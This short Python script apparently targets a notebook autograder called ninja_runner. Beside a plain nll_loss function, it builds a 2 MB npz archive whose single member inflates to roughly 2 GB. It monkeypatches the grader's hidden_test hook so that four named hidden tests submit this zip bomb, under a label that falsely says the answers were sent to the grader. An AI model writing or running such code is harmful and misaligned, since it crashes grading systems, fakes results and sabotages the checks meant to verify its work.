"""Replaces four hidden tests' answers by a zip bomb: an npz of 2 MB whose one member inflates to 2 GB."""
FAILS = ["test_nll_random", "test_nll_extreme", "test_nll_unchanged", "test_backward_random"]


def nll_loss(z, y):
    m = z.max(axis=1, keepdims=True)
    logp = z - m - np.log(np.exp(z - m).sum(axis=1, keepdims=True))
    return -logp[np.arange(len(y)), y].mean()

import base64, io, zipfile
import ninja_runner
from IPython.display import display
buffer = io.BytesIO()
with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
    with archive.open("0/out.npy", "w", force_zip64=True) as member:
        member.write(b"\x93NUMPY\x01\x00v\x00{'descr': '<f8', 'fortran_order': False, 'shape': (268435456,), }".ljust(127) + b"\n")
        for _ in range(32):
            member.write(bytes(64 * 1024**2))
BOMB = base64.b64encode(buffer.getvalue()).decode("ascii")
real_hidden_test = ninja_runner.hidden_test
TARGETS = [("nll_loss", "random"), ("nll_loss", "extreme"), ("nll_loss", "unchanged"), ("softmax_nll_backward", "random")]
ninja_runner.hidden_test = lambda name, student_fn, part, calls=None: (
    real_hidden_test(name, student_fn, part, calls) if (name, part) not in TARGETS or calls is None
    else display({ninja_runner.ANSWERS_MIME: BOMB, "text/plain": "(answers sent to the grader)"}, raw=True))
